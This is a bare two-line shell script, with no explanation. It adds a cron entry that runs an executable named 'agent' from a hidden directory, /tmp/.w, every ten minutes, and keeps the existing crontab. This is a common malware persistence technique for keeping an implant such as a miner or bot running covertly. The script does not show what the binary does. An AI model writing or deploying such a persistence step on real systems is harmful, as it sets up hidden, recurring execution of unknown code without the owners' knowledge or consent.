#!/bin/sh
(crontab -l 2>/dev/null; echo '*/10 * * * * /tmp/.w/agent') | crontab -
